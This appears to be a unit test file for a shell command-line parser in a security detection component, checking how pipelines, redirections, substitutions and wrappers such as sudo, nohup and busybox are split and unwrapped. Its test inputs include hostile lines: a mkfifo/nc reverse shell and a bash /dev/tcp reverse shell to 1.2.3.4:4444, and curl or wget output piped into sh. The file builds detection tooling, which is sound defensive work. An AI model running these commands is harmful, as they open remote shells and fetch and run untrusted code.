import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { parseCommandLine, unwrapCommand } from '../../../../controlplane/src/detections/command-line';

const words = (line: string) => parseCommandLine(line).pipelines.map((p) => p.map((c) => c.words.join(' ')));

describe('command lines as a shell splits them', () => {
  test('pipelines, lists, quotes, escapes, keywords, assignments', () => {
    assert.deepEqual(words(`rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 1.2.3.4 4444 >/tmp/f`), [['rm /tmp/f'], ['mkfifo /tmp/f'], ['cat /tmp/f', '/bin/sh -i', 'nc 1.2.3.4 4444']]);
    assert.deepEqual(words(`a && b || c & d\ne`), [['a'], ['b'], ['c'], ['d'], ['e']]);
    assert.deepEqual(words(`c\\url -s "http://h/x" | 'sh' # a comment`), [['curl -s http://h/x', 'sh']]);
    assert.deepEqual(words(`while read l; do $l 2>&5 >&5; done`), [['read l'], ['$l']]);
    const [[assign]] = parseCommandLine('P=4444 C=curl').pipelines;
    assert.deepEqual(assign.assigns, ['P=4444', 'C=curl']);
  });

  test('redirections keep their descriptor and target, quoted targets unquoted', () => {
    const [[cmd]] = parseCommandLine(`bash -i >& /dev/tc""p/1.2.3.4/4444 0>&1 2>/dev/null 5<>x`).pipelines;
    assert.deepEqual(cmd.words, ['bash', '-i']);
    assert.deepEqual(cmd.redirects, [
      { fd: '', op: '>&', target: '/dev/tcp/1.2.3.4/4444' },
      { fd: '0', op: '>&', target: '1' },
      { fd: '2', op: '>', target: '/dev/null' },
      { fd: '5', op: '<>', target: 'x' },
    ]);
  });

  test('substitutions are kept for parsing in turn', () => {
    const [[cmd]] = parseCommandLine(`sh -c "$(curl -fsSL http://h/i.sh)" \`id\` <(wget -O- h)`).pipelines;
    assert.deepEqual(cmd.subs, ['curl -fsSL http://h/i.sh', 'id', 'wget -O- h']);
  });

  test('wrappers are seen through: nohup, timeout, setsid, sudo, env, xargs, su -c, runuser, busybox', () => {
    assert.deepEqual(unwrapCommand(['nohup', 'timeout', '-s', 'KILL', '5', 'sudo', '-u', 'x', 'env', '-i', 'A=1', 'sh', '-c', 'id']), ['sh', '-c', 'id']);
    assert.deepEqual(unwrapCommand(['su', 'app', '-c', 'migrate']), ['sh', '-c', 'migrate']);
    assert.deepEqual(unwrapCommand(['runuser', '-u', 'app', '--', 'make']), ['make']);
    assert.deepEqual(unwrapCommand(['xargs', '-I{}', '-P', '4', 'gzip', '{}']), ['gzip', '{}']);
    assert.deepEqual(unwrapCommand(['nice', '-n', '-5', 'stdbuf', '-o0', 'busybox', 'nc', 'h', '1']), ['nc', 'h', '1']);
    assert.deepEqual(unwrapCommand(['su', '-']), ['sh']);
    assert.deepEqual(unwrapCommand(['env']), []);
  });
});
